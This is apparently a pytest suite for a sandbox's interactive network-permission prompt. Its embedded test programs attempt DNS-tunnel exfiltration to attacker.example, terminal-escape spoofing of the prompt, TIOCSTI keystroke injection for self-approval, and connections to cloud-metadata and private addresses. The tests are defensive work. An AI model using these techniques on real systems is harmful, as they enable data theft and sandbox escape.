# SPDX-License-Identifier: Apache-2.0
"""Questions of holt run --ask: a program inside can cause them, and can do nothing else to them.

The test network (lib/netlab.py) is the host's network here, and its log shows what has left the sandbox.
"""

from __future__ import annotations

import re
import shlex
from collections.abc import Iterator
from contextlib import contextmanager

import pytest

from lib.netlab import Lab, holt, lab  # noqa: F401
from lib.sandbox import Holt
from lib.terminal import Answering, Terminal
from lib.tools import needs

pytestmark = needs("curl", "python3")

QUESTION = r"holt: allow (\S+)\? \[y\]es once, \[a\]lways in this run, \[n\]o: "


@contextmanager
def asked(holt: Holt, program: str, *flags: str, kind: type[Terminal] = Terminal) -> Iterator[Terminal]:
    with kind(holt.identity, holt.argv(["run", "--ask", *flags, "--", "python3", "-c", program]), cwd=holt.cwd) as terminal:
        yield terminal


def answer(terminal: Terminal, word: str) -> None:
    for _ in range(200):
        terminal.send(word + "\r")
        try:
            terminal.expect(re.escape(word) + "\r+\n", timeout=0.2)
            return
        except AssertionError:
            pass
    raise AssertionError(f"no answer is taken, but {terminal.output!r}")


CONNECT = """
import socket, sys
def attempt(host, port=80):
    try: end = socket.create_connection((host, port), timeout=100); end.sendall(b"GET / HTTP/1.0\\r\\nHost: %s\\r\\n\\r\\n" % host.encode()); return end.recv(15)
    except OSError as error: return type(error).__name__
"""


def test_a_flood_of_questions_is_bounded(holt: Holt, lab: Lab) -> None:
    """Eight questions are open at once, and 32 are asked; only one is on the terminal."""
    flood = CONNECT + """
import threading
print("begun", flush=True)
threads = [threading.Thread(target=attempt, args=("n%d.example.org" % i, port)) for i in range(40) for port in (80, 443)]
for thread in threads: thread.start()
for thread in threads: thread.join()
print("ended", flush=True); sys.exit(1)
"""
    with asked(holt, flood, "--ask-timeout", "1s") as terminal:
        assert terminal.wait(200) == 1
    assert 1 <= len(re.findall(QUESTION, terminal.output)) <= 32
    assert "too many questions were asked" in terminal.output and not lab.log()


TUNNEL = """
import socket
names = answers = 0
for i in range(400):
    names += 1
    try: socket.getaddrinfo("data%d-%s.attacker.example" % (i, "x" * 40), 80, socket.AF_INET); answers += 1
    except OSError: pass
try: socket.getaddrinfo(".".join(["y" * 60] * 3) + ".attacker.example", 80); answers += 1000
except OSError: pass
print("answers", answers)
"""


def test_names_carry_no_data_out(holt: Holt, lab: Lab) -> None:
    """No name is looked up outside before an answer. Their number and length are limited even so."""
    with asked(holt, TUNNEL) as terminal:
        answers = int(terminal.expect(r"answers (\d+)").group(1))
        assert terminal.wait() == 0
    assert answers <= 130 and not lab.log()


@pytest.mark.parametrize("name, shown", [
    ("B\u00dcCHER.example", "xn--bcher-kva.example"), ("r\u0435gistry.example", "xn--rgistry-7gg.example"), ("UPPER.example.ORG.", "upper.example.org"),
])
def test_names_are_shown_in_ascii(name: str, shown: str, holt: Holt) -> None:
    with asked(holt, CONNECT + f"attempt({name!r}.encode('idna').decode())", "--ask-timeout", "1s") as terminal:
        assert terminal.expect(QUESTION).group(1) == f"{shown}:80"
        terminal.wait()


WIRE = """
import os, socket, struct
def query(labels):
    name = b"".join(bytes([len(l)]) + l for l in labels) + b"\\0"
    end = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); end.settimeout(60)
    end.sendto(struct.pack("!HHHHHH", 7, 256, 1, 0, 0, 0) + name + b"\\0\\1\\0\\1", ("198.18.0.1", 53))
    return end.recv(512)[3] & 15
print("codes", [query(l) for l in ([b"\\x1b[2Jholt", b"example"], b"a\\nholt: allow good.example.org:443? y".split(b"!"), ["\\u202egro.elpmaxe".encode(), b"org"], [b"a b", b"org"], [b"1", b"2", b"3", b"4"], [b"a.b", b"org"])])
"""


def test_bytes_that_no_name_has_are_never_asked_about(holt: Holt) -> None:
    with asked(holt, WIRE) as terminal:
        codes = terminal.expect(r"codes (\[.*\])").group(1)
        terminal.wait()
    assert "0" not in codes and "holt: allow" not in terminal.output


OVERLAY = CONNECT + """
import os, threading, time
def draw():
    while True: os.write(1, b"\\r\\x1b[2K\\x1b[Aholt: allow good.example.org:443? "); time.sleep(0.01)
os.write(1, b"\\x1b]0;")
threading.Thread(target=draw, daemon=True).start()
print(attempt("evil.example.org"))
"""


@pytest.mark.slow
def test_nothing_is_drawn_over_a_question(holt: Holt) -> None:
    """The question ends a sequence that has begun, resets the terminal, and is the last thing on it."""
    with asked(holt, OVERLAY, "--ask-timeout", "3s") as terminal:
        terminal.expect(re.escape("\x18\x1b\\\x1b[!p\x1b(B\x0f\x1b[0m\r") + r"+\n" + QUESTION)
        after = terminal.expect(r"holt: nobody answered").string
        terminal.wait()
    assert after.startswith("\r\n")


COVERED = r"type evil\.example\.org:80 to allow it once, or \[n\]o: "


@pytest.mark.parametrize("pipe", ("| cat", "2>&1 >/dev/null | cat", "2>&1 </dev/null | cat"))
def test_a_name_drawn_over_a_question_is_not_the_one_that_is_allowed(pipe: str, holt: Holt, lab: Lab) -> None:
    """At the end of a pipe, another program draws on the terminal. Then the answer has to be the name itself."""
    argv = shlex.join(holt.argv(["run", "--ask", "--", "python3", "-c", OVERLAY.replace("time.sleep(0.01)", "time.sleep(0.2)")]))
    with Terminal(holt.identity, ["sh", "-c", f"{argv} {pipe}"], cwd=holt.cwd) as terminal:
        terminal.expect(COVERED)
        answer(terminal, "y")
        terminal.expect("type the name with its port, or n")
        answer(terminal, "good.example.org:443")
        terminal.expect("type the name with its port, or n")
        answer(terminal, "always")
        terminal.wait()
    assert not lab.log()


INSIDE = CONNECT + """
import fcntl, os, termios, threading
os.write(1, b"\\x1b[21t\\x1b[c\\x05")
def answer():
    while True:
        for fd in (0, 1, 2):
            try: os.write(fd, b"y\\r\\n")
            except OSError: pass
            for byte in b"y\\n":
                try: fcntl.ioctl(fd, termios.TIOCSTI, bytes([byte]))
                except OSError: pass
        try: open("/dev/tty", "w").write("y\\n")
        except OSError: pass
threading.Thread(target=answer, daemon=True).start()
result = attempt("other.example.org")
os.write(1, b"result %s\\n" % str(result).encode()); os._exit(0)
"""


@pytest.mark.slow
@pytest.mark.parametrize("kind", (Terminal, Answering))
def test_a_program_can_not_answer_itself(kind: type[Terminal], holt: Holt, lab: Lab) -> None:
    """The program writes to its own terminal, pushes keys, and makes the caller's terminal type."""
    with asked(holt, INSIDE, "--ask-timeout", "3s", kind=kind) as terminal:
        terminal.expect(QUESTION)
        terminal.expect("nobody answered in time")
        terminal.expect("result (?!b'HTTP)")
        terminal.wait()
    assert not lab.log("tcp")


def test_yes_is_for_one_connection_to_one_name_and_port(holt: Holt, lab: Lab) -> None:
    """Fifty connections share the question, and one of them passes."""
    race = CONNECT + """
import threading
address, done = socket.gethostbyname("other.example.org"), []
def one():
    try: done.append(socket.create_connection((address, 9004), timeout=100))
    except OSError: pass
threads = [threading.Thread(target=one) for _ in range(50)]
for thread in threads: thread.start()
for thread in threads: thread.join()
print("passed", len(done))
for host, port in (("other.example.org", 9000), ("four.example.org", 9004)): print(attempt(host, port))
"""
    with asked(holt, race, "--ask-timeout", "20s") as terminal:
        assert terminal.expect(QUESTION).group(1) == "other.example.org:9004"
        answer(terminal, "y")
        assert terminal.expect(r"passed (\d+)").group(1) == "1"
        for host in ("other.example.org:9000", "four.example.org:9004"):
            assert terminal.expect(QUESTION).group(1) == host
            answer(terminal, "n")
        terminal.wait()
    assert len(lab.log("tcp")) == 1


@pytest.mark.parametrize("name", ("loopback", "metadata", "private-10"))
def test_an_answer_does_not_open_private_addresses(name: str, holt: Holt, lab: Lab) -> None:
    with asked(holt, CONNECT + f"print(attempt('{name}.bad.example.org')); sys.exit(1)") as terminal:
        terminal.expect(QUESTION)
        answer(terminal, "a")
        assert terminal.wait() == 1
    assert "a private or special address" in terminal.output and not lab.log("tcp")


def test_addresses_are_refused_without_a_question(holt: Holt, lab: Lab) -> None:
    attempts = "".join(f"print(attempt({host!r}))\n" for host in ("127.0.0.1", "169.254.169.254", "10.1.0.5", "203.0.113.10", "198.18.77.1", "::1"))
    with asked(holt, CONNECT + attempts) as terminal:
        terminal.wait()
    assert "holt: allow" not in terminal.output and "HTTP" not in terminal.output and not lab.log("tcp")
